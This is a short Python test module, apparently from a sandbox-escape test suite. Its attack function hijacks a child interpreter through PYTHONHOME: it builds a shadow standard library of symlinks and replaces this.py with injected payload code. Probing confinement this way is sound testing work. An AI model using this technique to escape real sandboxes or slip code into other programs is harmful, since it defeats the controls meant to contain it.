"""A child finds a standard library of one's own, through PYTHONHOME."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "allow"
GRANT = {"run": True}

import os
import subprocess

from . import payload


def attack():
    import encodings
    root = payload.ROOT + "/tmp/home"
    there = os.path.dirname(os.path.dirname(encodings.__file__))
    os.makedirs(root + "/lib")
    os.mkdir(f"{root}/lib/{payload.LIBRARY}")
    for file in os.listdir(there):
        os.symlink(f"{there}/{file}", f"{root}/lib/{payload.LIBRARY}/{file}")
    os.remove(f"{root}/lib/{payload.LIBRARY}/this.py")
    with open(f"{root}/lib/{payload.LIBRARY}/this.py", "w") as file:
        file.write(payload.SOURCE)
    subprocess.run([payload.PYTHON, "-c", "import this"],
                   env={"PYTHONHOME": root})
